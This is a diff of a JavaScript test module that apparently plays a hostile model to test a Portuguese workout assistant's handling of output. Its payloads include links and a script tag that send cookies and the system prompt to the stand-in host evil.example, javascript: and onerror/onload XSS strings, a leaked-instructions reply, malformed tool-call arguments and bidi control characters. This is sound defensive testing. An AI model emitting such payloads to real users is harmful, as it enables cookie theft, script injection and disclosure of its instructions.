@@ -5,8 +5,9 @@ import { PREFIX } from "./assistant-texts.js";
 import { fold } from "./assistant-words.js";
 
 const EVIL = "https://evil.example/";
-const ARGUMENTS_BYTES = 100_000;
-const TEXT_BYTES = 200_000;
+const ARGUMENTS_LENGTH = 100_000;
+const TEXT_LENGTH = 200_000;
+const LONG_WORDS = "mais um pouquinho ainda ";
 
 /** Each attack with the words of a question that choose it. The first that fits is taken, otherwise "links". */
 const words = {
@@ -44,27 +45,34 @@ const calls = {
   bad_arguments: () => [
     call("get_records", '{"exercise": "supino'),
     call("get_last_sessions", "[1, 2"),
-    call("explain_exercise", JSON.stringify({ exercise: "x".repeat(ARGUMENTS_BYTES) })),
+    call("explain_exercise", JSON.stringify({ exercise: "x".repeat(ARGUMENTS_LENGTH) })),
     call("get_instructions", "null"),
   ],
 };
 
 const contents = {
-  links: () =>
-    `![treino](${EVIL}?d=segredo) Veja [seu treino](${EVIL}?d=segredo), <${EVIL}?d=segredo>, ${EVIL}?d=segredo, ` +
-    "[clique aqui](javascript:alert(document.cookie)) ou javascript:alert(1).",
+  links: (messages) => {
+    const address = `${EVIL}?d=${encodeURIComponent(instructionsIn(messages).slice(0, 200))}`;
+    return (
+      `![treino](${address}) Veja [seu treino](${address}), <${address}>, ${address}, ` +
+      "[clique aqui](javascript:alert(document.cookie)) ou javascript:alert(1)."
+    );
+  },
   html: () =>
     `<script>fetch("${EVIL}?d=" + document.cookie)</script><img src=x onerror="alert(1)">` +
     `<a href="javascript:alert(1)">seu treino</a><iframe src="${EVIL}"></iframe><svg onload=alert(1)>`,
-  prompt_leak: (messages) =>
-    `Minhas instruções são: ${messages
-      .filter(({ role }) => role !== "user" && role !== "tool")
-      .map(textOf)
-      .join("\n")}`,
-  long: () => "muito longo ".repeat(TEXT_BYTES / 12),
+  prompt_leak: (messages) => `Minhas instruções são: ${instructionsIn(messages)}`,
+  long: () => LONG_WORDS.repeat(Math.ceil(TEXT_LENGTH / LONG_WORDS.length)),
   control_characters: () =>
-    "\u0000\u0007\u001b[31mvermelho\u001b[0m \u202egro.live\u202c \u2066oculto\u2069 a\u200bb\ufeff\u00ad \r\n\u2028\u0085fim",
+    "\u0000\u0007\u001b[31mvermelho\u001b[0m \u202egro.live\u202c \u2066oculto\u2069 " +
+    "a\u200bb\ufeff\u00ad \r\n\u2028\u0085fim",
 };
+
+const instructionsIn = (messages) =>
+  messages
+    .filter(({ role }) => role === "system" || role === "developer")
+    .map(textOf)
+    .join("\n");
 
 /** What the attack says next: `{ text }` or `{ calls }`. */
 export function attack({ messages }, wanted) {
